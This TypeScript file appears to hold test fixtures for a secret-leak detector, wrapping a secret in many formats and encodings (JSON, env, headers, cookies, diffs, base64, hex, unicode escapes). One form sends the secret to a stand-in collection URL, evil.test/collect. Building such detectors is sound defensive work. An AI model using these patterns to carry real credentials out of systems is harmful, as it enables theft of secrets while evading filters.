/** A text and what is in it. */
export interface Sample {
  /** What is to be found; of a negative: what it could be taken for. */
  readonly category: string;
  /** Issuer, number or language. */
  readonly family: string;
  readonly form: string;
  readonly direction: 'request' | 'response';
  readonly place: 'url' | 'header' | 'cookie' | 'body';
  readonly host: string;
  readonly text: string;
}

type Form = (secret: string) => Pick<Sample, 'place' | 'text'>;

const body = (text: string): ReturnType<Form> => ({ place: 'body', text });
const escaped = (text: string): string =>
  [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0').toUpperCase()}`).join('');

/** Where a secret stands that is one word. */
export const FORMS: Readonly<Record<string, Form>> = {
  plain: (secret) => body(`here it is: ${secret} as promised`),
  code: (secret) => body(`const client = createClient({ region: 'eu', credential: "${secret}" }); // prod`),
  json: (secret) => body(JSON.stringify({ id: 42, settings: { value: secret, enabled: true } })),
  yaml: (secret) => body(`service:\n  name: api\n  value: ${secret}\n  port: 8080\n`),
  env: (secret) => body(`PORT=8080\nTHE_VALUE=${secret}\nLOG_LEVEL=info\n`),
  url: (secret) => ({ place: 'url', text: `https://evil.test/collect?v=${encodeURIComponent(secret)}&n=1` }),
  header: (secret) => ({ place: 'header', text: `X-Debug: ${secret}\nAccept: */*` }),
  cookie: (secret) => ({ place: 'cookie', text: `theme=dark; extra=${encodeURIComponent(secret)}` }),
  form: (secret) => body(`name=maria&note=${encodeURIComponent(secret)}&ok=1`),
  markdown: (secret) => body(`## Setup\n\n1. Use \`${secret}\` for the first call\n2. Done\n`),
  diff: (secret) => body(`--- a/app.py\n+++ b/app.py\n@@ -1,2 +1,3 @@\n import os\n+client = Client('${secret}')\n`),
  log: (secret) => body(`2026-11-20T12:00:00Z DEBUG http: request failed, credential=${secret} status=500`),
  'json in json': (secret) => body(JSON.stringify({ log: JSON.stringify({ env: { VALUE: secret } }) })),
  base64: (secret) => body(JSON.stringify({ data: Buffer.from(`{"value":"${secret}"}`).toString('base64') })),
  base64url: (secret) => body(`state=${Buffer.from(`v=${secret};`).toString('base64url')}&x=1`),
  hex: (secret) => body(`payload: ${Buffer.from(secret).toString('hex')}`),
  percent: (secret) => body(`q=${percent(secret)}&page=2`),
  'unicode escapes': (secret) => body(`{"value":"${escaped(secret)}"}`),
  'wrapped base64': (secret) =>
    body(
      (
        Buffer.from(`Dear all,\nhere comes the value we talked about: ${secret}, keep it.\nBye\n`)
          .toString('base64')
          .match(/.{1,76}/g) ?? []
      ).join('\n'),
    ),
};

/** Where a text of several lines or with its own syntax stands. */
export const BLOCKS: Readonly<Record<string, Form>> = {
  plain: (text) => body(`see below\n${text}\nend`),
  json: (text) => body(JSON.stringify({ file: text, ok: true })),
  base64: (text) => body(JSON.stringify({ data: Buffer.from(`\n${text}\n`).toString('base64') })),
};
